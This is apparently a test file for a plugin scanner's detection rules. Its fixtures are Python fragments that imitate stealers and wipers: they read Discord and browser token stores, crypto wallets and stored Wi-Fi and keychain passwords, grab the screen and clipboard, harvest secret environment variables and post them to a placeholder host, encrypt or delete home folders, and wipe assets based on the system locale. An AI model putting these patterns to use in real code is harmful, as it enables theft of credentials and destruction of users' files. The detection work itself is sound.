import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import type { Rule } from '../check.js';
import { rule as credentialFile } from './credential-file.rule.js';
import { rule as dataLeak } from './data-leak.rule.js';
import { rule as destroyedFiles } from './destroyed-files.rule.js';
import { rule as inputCapture } from './input-capture.rule.js';

type Files = Readonly<Record<string, string>>;

const worst = (rule: Rule, files: Files): string => findingsOf(rule, files, { dialect: 'comfyvn' })[0]?.severity ?? 'nothing';
const all = (rule: Rule, expected: readonly string[], packages: readonly Files[]): void => {
  for (const files of packages) assert.ok(expected.includes(worst(rule, files)), `${worst(rule, files)}: ${JSON.stringify(files)}`);
};
/** A module that sends what it gets to a server that it names, and one that brings both together. */
const SENDS = { 'wire.py': 'import requests\ndef post(value):\n    requests.post("https://w.example/a", json=value)\n', 'main.py': 'from wire import post\nimport found\n\ndef on_scene(event):\n    post(found.all())\n' };
/** The same without a server. */
const KEEPS = { 'main.py': 'import found\n\ndef on_scene(event):\n    show(found.all())\n' };

test('pieces of the paths to stores, which one module finds and another one sends', () => {
  const found = [
    'import os\nROOTS = ["Discord", "Lightcord"]\ndef all():\n    for name in ROOTS:\n        yield os.path.join(base, name, "Local Storage", "leveldb")\n',
    'from pathlib import Path\ndef all():\n    for vendor, product in VENDORS:\n        yield Path(base) / vendor / product / "User Data" / "Default" / "Network" / "Cookies"\n',
    'import os\nSOURCES = [["Exodus", "exodus.wallet"], ("Electrum", "wallets")]\ndef all():\n    return [os.path.join(base, *parts) for parts in SOURCES]\n',
    'class A:\n    tail = "\\\\Local Storage\\\\leveldb"\n    def all(self):\n        return self.base + self.tail\n',
  ];
  all(credentialFile, ['high'], found.map((code) => ({ ...SENDS, 'found.py': code })));
  all(credentialFile, ['low'], found.map((code) => ({ ...KEEPS, 'found.py': code })));
  all(credentialFile, ['low'], found.map((code) => ({ 'wire.py': SENDS['wire.py'], 'found.py': code })));
  all(credentialFile, ['nothing'], [{ ...SENDS, 'found.py': 'NAMES = ["Local Storage", "Exodus", "Electrum"]\ndef all():\n    return NAMES\n' }]);
});

test('programs that show passwords which a system keeps', () => {
  const found = 'import subprocess\ndef all():\n    return subprocess.check_output(["netsh", "wlan", "show", "profile", name, "key=clear"])\n';
  all(credentialFile, ['high'], [{ ...SENDS, 'found.py': found }, { ...SENDS, 'found.py': 'import os\ndef all():\n    return os.popen("security find-generic-password -ga " + name).read()\n' }]);
  all(credentialFile, ['nothing'], [{ ...KEEPS, 'found.py': found }, { ...SENDS, 'found.py': found.replace(', "key=clear"', '') }]);
});

test('the screen, and what was copied by way of a program, beside what sends something', () => {
  const found = [
    'from PIL import ImageGrab\ndef all():\n    return ImageGrab.grab()\n',
    'import mss\ndef all():\n    with mss.mss() as screen:\n        return screen.grab(screen.monitors[0])\n',
  ];
  const copied = 'import platform, subprocess\nCOMMANDS = {"Darwin": ["pbpaste"], "Linux": ["xclip", "-selection", "clipboard", "-o"]}\ndef all():\n    command = COMMANDS.get(platform.system())\n    return subprocess.run(command, capture_output=True).stdout\n';
  all(inputCapture, ['high'], [...found, copied].map((code) => ({ ...SENDS, 'found.py': code })));
  all(inputCapture, ['low', 'nothing'], [...found, copied].map((code) => ({ ...KEEPS, 'found.py': code })));
  all(inputCapture, ['nothing'], [{ ...SENDS, 'found.py': copied.replace('pbpaste', 'pbcopy').replace(', "-o"', '') }]);
});

test('whatever is in folders of somebody is read, or secrets are picked among variables, and sent', () => {
  const found = [
    'from pathlib import Path\ndef all():\n    for name in ("Documents", "Desktop"):\n        for file in (Path.home() / name).rglob("*"):\n            yield file.read_bytes()\n',
    'import os\nfrom concurrent.futures import ThreadPoolExecutor\npool = ThreadPoolExecutor(2)\ndef one(path):\n    return open(path, "rb").read()\ndef all():\n    for where, _, names in os.walk(os.path.expanduser("~")):\n        for name in names:\n            pool.submit(one, os.path.join(where, name))\n',
    'import os, shutil\nclass A:\n    root = os.path.expanduser("~")\n    def all(self):\n        return shutil.make_archive("/tmp/a", "zip", os.path.join(self.root, "Documents"))\n',
    'import os\nWORDS = ("TOKEN", "SECRET", "KEY")\ndef all():\n    return {k: v for k, v in os.environ.items() if any(w in k for w in WORDS)}\n',
    'import os, re\nWANTED = re.compile("token|secret|passw", re.I)\ndef all():\n    kept = {}\n    for name, value in os.environ.items():\n        if WANTED.search(name):\n            kept[name] = value\n    return kept\n',
  ];
  all(dataLeak, ['high'], found.map((code) => ({ ...SENDS, 'found.py': code })));
  all(dataLeak, ['nothing'], found.map((code) => ({ ...KEEPS, 'found.py': code })));
  all(dataLeak, ['nothing'], [
    'from pathlib import Path\ndef all():\n    for kind in ("lights", "faces"):\n        for file in (Path.home() / ".mine" / kind).glob("*.json"):\n            yield file.read_bytes()\n    for file in Path.home().glob(".mine/themes/*.json"):\n        yield file.read_bytes()\n',
    'from pathlib import Path\ndef all():\n    return [(folder / name).read_bytes() for name in names]\n',
    'import os\ndef all():\n    return {k: v for k, v in os.environ.items() if k.startswith("MINE_")}\n',
    'import os\ndef all():\n    return {k: v for k, v in os.environ.items() if not ("TOKEN" in k or "SECRET" in k)}\n',
    'import os\ndef all():\n    return {k: len(v) for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k}\n',
    'import os\ndef all():\n    env = dict(os.environ)\n    for name in list(env):\n        if "TOKEN" in name or "SECRET" in name:\n            del env[name]\n    return env\n',
  ].map((code) => ({ ...SENDS, 'found.py': code })));
});

test('folders of somebody by names in a list, an attribute or what a function gives', () => {
  const home = 'import os, shutil\nfrom pathlib import Path\n';
  const of = (code: string): Files => ({ 'a.py': home + code });
  all(destroyedFiles, ['critical', 'high'], [
    of('for name in ("Mine", "Documents"):\n    shutil.rmtree(Path.home() / name, ignore_errors=True)\n'),
    of('class A:\n    base = os.path.expanduser("~")\n    names = ["Mine", "Pictures"]\n    def go(self):\n        for name in self.names:\n            for where, _, files in os.walk(os.path.join(self.base, name)):\n                for file in files:\n                    os.remove(os.path.join(where, file))\n'),
    of('class A:\n    root: Path = Path.home()\n    def files(self):\n        for where, _, names in os.walk(self.root):\n            yield from (Path(where, name) for name in names)\n    def go(self):\n        for file in self.files():\n            file.write_bytes(self.box.encrypt(file.read_bytes()))\n'),
    of('FOLDERS = [Path.home() / "Documents", Path.home() / "Music"]\ndef spoil(path):\n    with open(path, "r+b") as file:\n        file.write(b"0")\nfor folder in FOLDERS:\n    for path in folder.rglob("*"):\n        spoil(path)\n'),
    of('def clear(folder):\n    shutil.rmtree(folder)\nclear(Path.home().joinpath("Documents"))\n'),
  ]);
  all(destroyedFiles, ['nothing'], [
    of('BASE = Path.home() / ".cache" / "mine"\nfor name in ("previews", "thumbs"):\n    shutil.rmtree(BASE / name, ignore_errors=True)\n'),
    of('class A:\n    def __init__(self, folder):\n        self.work = Path(folder)\n    def go(self):\n        for name in os.listdir(self.work):\n            os.remove(os.path.join(self.work, name))\n'),
    of('for file in Path.home().glob("Documents/Mine/*.tmp"):\n    file.unlink()\n'),
    of('def clear(folder):\n    shutil.rmtree(folder)\nclear(Path.home() / ".mine")\n'),
    of('class A:\n    def go(self):\n        self.path = self.path + self.path\n        os.remove(self.path)\n'),
  ]);
});

test('what is removed where a language or a time zone is one that is written', () => {
  const of = (code: string): Files => ({ 'a.py': `import ctypes, locale, os, shutil, time\nfrom comfyvn import api\ndef clear():\n    for asset in api.assets.list():\n        api.assets.remove(asset["id"])\n${code}` });
  all(destroyedFiles, ['high'], [
    of('REGIONS = {"ru_RU", "be_BY"}\ndef region():\n    return locale.getlocale()[0]\ndef go():\n    if region() in REGIONS:\n        clear()\n'),
    of('class A:\n    def unwanted(self):\n        return time.tzname[0] in ("MSK", "+03")\n    def go(self):\n        if self.unwanted():\n            clear()\n'),
    of('LANGS = [0x419, 0x423]\nclass A:\n    def __init__(self):\n        self.lang = ctypes.windll.kernel32.GetUserDefaultUILanguage()\n    def go(self):\n        if self.lang not in LANGS:\n            shutil.rmtree(folder)\n'),
  ]);
  all(destroyedFiles, ['nothing'], [
    of('TITLES = {"de": "Stimmen", "fr": "Voix"}\ndef language():\n    return (locale.getdefaultlocale()[0] or "en").split("_")[0]\ndef go():\n    for folder in folders:\n        if folder.name != language():\n            shutil.rmtree(folder)\n    return TITLES.get(language())\n'),
    of('def go():\n    if locale.getlocale()[0] == "de":\n        show("Fertig")\n    os.remove(temporary)\n'),
  ]);
});
